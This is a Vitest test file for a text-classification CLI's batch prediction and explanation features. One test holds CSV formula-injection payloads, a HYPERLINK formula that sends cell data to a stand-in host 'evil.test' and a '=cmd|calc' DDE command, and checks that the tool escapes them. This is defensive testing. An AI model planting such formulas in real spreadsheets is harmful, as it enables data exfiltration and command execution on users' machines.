import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TextExplanation } from '../../shared/ml/explain.ts';
import type { TextModel } from '../../shared/ml/model.ts';
import { runTextops } from '../helpers/cli.ts';
import { sharedRows, toCsv } from '../helpers/data.ts';
import { modelDirectory, trainSmallModel } from '../helpers/serving-model.ts';

let dir: string;
let modelDir: string;
let model: TextModel;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'textops-cli-predict-'));
  model = await trainSmallModel(800);
  modelDir = await modelDirectory(model);
});

afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('textops predict --file', () => {
  it('streams a CSV into another: input columns + label + scores + model version, in order, with progress', async () => {
    const reviews = sharedRows('imdb-train.csv.gz').slice(7001, 7801);
    const input = join(dir, 'in.csv');
    await writeFile(input, toCsv([['review', 'id'], ...reviews.map((r, i) => [r[0], String(i)])]));
    const out = join(dir, 'out.csv');
    const result = await runTextops([
      'predict',
      '--model',
      modelDir,
      '--file',
      input,
      '--out',
      out,
      '--workers',
      '2',
    ]);
    expect(result.stderr).toMatch(
      /wrote 800 rows to .*out\.csv \(text column 'review', model local-[0-9a-f]{12}\)/,
    );
    expect(result.code).toBe(0);
    // Not a terminal: plain progress lines, no carriage returns.
    expect(result.stderr).toMatch(/^predict: .*800 rows, [\d,]+ rows\/s/m);
    expect(result.stderr).not.toMatch(/\r/);
    const rows = parse(await readFile(out, 'utf8')) as string[][];
    expect(rows[0]).toEqual([
      'review',
      'id',
      'predicted_label',
      'score_negative',
      'score_positive',
      'model_version',
    ]);
    expect(rows.slice(1).map((r) => r[1])).toEqual(reviews.map((_, i) => String(i)));
    for (const i of [0, 399, 799]) {
      const p = model.predict(reviews[i][0]);
      expect(rows[i + 1][2]).toBe(p.label);
      expect(Number(rows[i + 1][4])).toBeCloseTo(p.scores.positive, 9);
    }
    expect(existsSync(join(dir, 'out.errors.csv'))).toBe(false);
    expect(
      (
        await runTextops([
          'predict',
          '--model',
          modelDir,
          '--file',
          input,
          '--out',
          join(dir, 'one.csv'),
          '--workers',
          '1',
        ])
      ).code,
    ).toBe(0);
    expect(await readFile(join(dir, 'one.csv'), 'utf8')).toBe(await readFile(out, 'utf8'));
  });

  it('writes no cell a spreadsheet would run as a formula, and scores the text as read', async () => {
    const texts = ['=HYPERLINK("http://evil.test/?"&A1,"click") a great film', '-awful, boring film', 'fine'];
    const input = join(dir, 'formulas.csv');
    await writeFile(
      input,
      toCsv([
        ['review', '=cmd|calc'],
        [texts[0], '@SUM(1)'],
        [texts[1], '-3'],
        [texts[2], '\t+1'],
      ]),
    );
    const out = join(dir, 'formulas.out.csv');
    const result = await runTextops(['predict', '--model', modelDir, '--file', input, '--out', out]);
    expect(result.code, result.stderr).toBe(0);
    const rows = parse(await readFile(out, 'utf8')) as string[][];
    expect(rows[0].slice(0, 3)).toEqual(['review', "'=cmd|calc", 'predicted_label']);
    expect(rows.slice(1).map((r) => r.slice(0, 2))).toEqual([
      [`'${texts[0]}`, "'@SUM(1)"],
      [`'${texts[1]}`, '-3'],
      [texts[2], "'\t+1"],
    ]);
    for (let i = 0; i < texts.length; i++) {
      const p = model.predict(texts[i]);
      expect(rows[i + 1][2]).toBe(p.label);
      expect(Number(rows[i + 1][4])).toBeCloseTo(p.scores.positive, 9);
    }
  });

  it('lists malformed rows with their lines beside the output; reads .csv.gz', async () => {
    const input = join(dir, 'mixed.csv.gz');
    await writeFile(input, gzipSync('text,id\n"Great fun.",1\n"Dreadful.",2\nbro"ken,3\n"Fine film.",4\n'));
    const out = join(dir, 'mixed.csv');
    const result = await runTextops(['predict', '--model', modelDir, '--file', input, '--out', out]);
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(
      /1 malformed row\(s\) left out, listed with their lines in .*mixed\.errors\.csv/,
    );
    const rows = parse(await readFile(out, 'utf8')) as string[][];
    expect(rows.slice(1).map((r) => r[1])).toEqual(['1', '2', '4']);
    const errors = parse(await readFile(join(dir, 'mixed.errors.csv'), 'utf8')) as string[][];
    expect(errors.slice(1)).toEqual([
      [
        '4',
        expect.stringMatching(
          /^a double quote inside a text that does not start with one \(column 1, after "bro"\): put the whole text in double quotes/,
        ),
        'bro"',
      ],
    ]);
  });

  it('an empty file or one with no text column fails by name and writes no output', async () => {
    const empty = join(dir, 'empty.csv');
    await writeFile(empty, '');
    const r1 = await runTextops([
      'predict',
      '--model',
      modelDir,
      '--file',
      empty,
      '--out',
      join(dir, 'e.csv'),
    ]);
    expect(r1.code).toBe(1);
    expect(r1.stderr).toMatch(/InvalidDatasetError: the file is empty/);
    const numbers = join(dir, 'numbers.csv');
    await writeFile(numbers, 'id,score\n1,2\n');
    const r2 = await runTextops([
      'predict',
      '--model',
      modelDir,
      '--file',
      numbers,
      '--out',
      join(dir, 'n.csv'),
    ]);
    expect(r2.code).toBe(1);
    expect(r2.stderr).toMatch(/InvalidDatasetError: no text column/);
    const headerOnly = join(dir, 'header-only.csv');
    await writeFile(headerOnly, 'id,review\n');
    const r3 = await runTextops([
      'predict',
      '--model',
      modelDir,
      '--file',
      headerOnly,
      '--out',
      join(dir, 'h.csv'),
    ]);
    expect(r3.code).toBe(1);
    expect(r3.stderr).toMatch(
      /InvalidDatasetError: no rows: the file has a header \(id, review\) and no row under it, nothing to predict/,
    );
    expect(
      existsSync(join(dir, 'e.csv')) || existsSync(join(dir, 'n.csv')) || existsSync(join(dir, 'h.csv')),
    ).toBe(false);
    const leftovers = (await import('node:fs')).readdirSync(dir).filter((f) => f.includes('.partial-'));
    expect(leftovers).toEqual([]);
  });
  it('a model file that is no model, or not the one its checksum names, fails by name with threads or without', async () => {
    const input = join(dir, 'few.csv');
    await writeFile(input, toCsv([['review'], ['a fine film'], ['a dull film']]));
    const broken = join(dir, 'broken-model');
    await mkdir(broken, { recursive: true });
    await writeFile(join(broken, 'model.json'), '{"format": "textops-model/v1", "labels": [');
    const altered = join(dir, 'altered-model');
    await mkdir(altered, { recursive: true });
    await writeFile(join(altered, 'model.json'), `${await readFile(join(modelDir, 'model.json'), 'utf8')} `);
    await writeFile(join(altered, 'model.sha256'), await readFile(join(modelDir, 'model.sha256'), 'utf8'));
    for (const workers of ['1', '2']) {
      const out = join(dir, `broken-${workers}.csv`);
      const predictWith = (model: string) =>
        runTextops(['predict', '--model', model, '--file', input, '--out', out, '--workers', workers]);
      const notModel = await predictWith(broken);
      expect(notModel.code).toBe(1);
      expect(notModel.stderr).toMatch(/ModelFormatError: model artifact is not valid JSON/);
      const mismatch = await predictWith(altered);
      expect(mismatch.code).toBe(1);
      expect(mismatch.stderr).toMatch(
        /ModelFormatError: model checksum mismatch: expected sha256 [0-9a-f]{64}, got/,
      );
      expect(existsSync(out)).toBe(false);
    }
    expect((await readdir(dir)).filter((f) => f.includes('.partial-'))).toEqual([]);
  });
});

describe('textops predict --explain', () => {
  it("prints the predicted label's score as its parts + its largest contributions, and every label's as JSON", async () => {
    const text = 'A wonderful film, though the ending was awful.';
    const result = await runTextops(['predict', '--model', modelDir, '--explain', '--top-k', '2', text]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^positive\tnegative \d+\.\d %, positive \d+\.\d %\n/);
    expect(result.stdout).toMatch(
      /positive against negative \(log-odds\): \d+\.\d{4} = bias -?\d+\.\d{4} \+ word n-grams -?\d+\.\d{4}\n/,
    );
    expect(result.stdout).toMatch(/each weight: logistic regression \+ 0\.3 × naive Bayes/);
    expect(result.stdout).toMatch(/\+\d+\.\d{4} {2}word "wonderful"/);
    expect(result.stdout).toMatch(/-\d+\.\d{4} {2}word "awful"/);
    const json = await runTextops(['predict', '--model', modelDir, '--explain', '--json', text]);
    const body = JSON.parse(json.stdout) as {
      explanation: Pick<TextExplanation, 'classes' | 'words'>;
    };
    expect(body.explanation.classes.map((c) => c.label)).toEqual(['negative', 'positive']);
    const score = body.explanation.classes[1];
    const shares = body.explanation.words.reduce((s, w) => s + w.contributions[1], 0);
    expect(Math.abs(score.parts.bias + shares - score.score)).toBeLessThan(1e-9);
    expect(Math.abs(score.parts.bias + score.parts.word! - score.score)).toBeLessThan(1e-9);
    expect(
      (await runTextops(['predict', '--model', modelDir, '--explain', '--top-k', '99', text])).code,
    ).not.toBe(0);
  });

  it('shows a character n-gram inside the word it was cut from, its padding as ␣', async () => {
    const chars = await modelDirectory(await trainSmallModel(600, 0, { analyzer: 'char_wb' }));
    const text = 'Wonderful';
    const result = await runTextops(['predict', '--model', chars, '--explain', '--top-k', '50', text]);
    expect(result.code).toBe(0);
    // Every n-gram is a span of "Wonderful" in brackets, the word's edges as ␣.
    const grams = [...result.stdout.matchAll(/ {2}chars (\S*) {2}\(weight/g)].map((m) => m[1]);
    expect(grams.length).toBeGreaterThan(5);
    for (const g of grams) expect(g.replace(/[[\]␣]/g, '')).toBe('Wonderful');
    expect(grams).toContain('[␣Wo]nderful');
    expect(grams).toContain('Wonderfu[l␣]');
  });
});
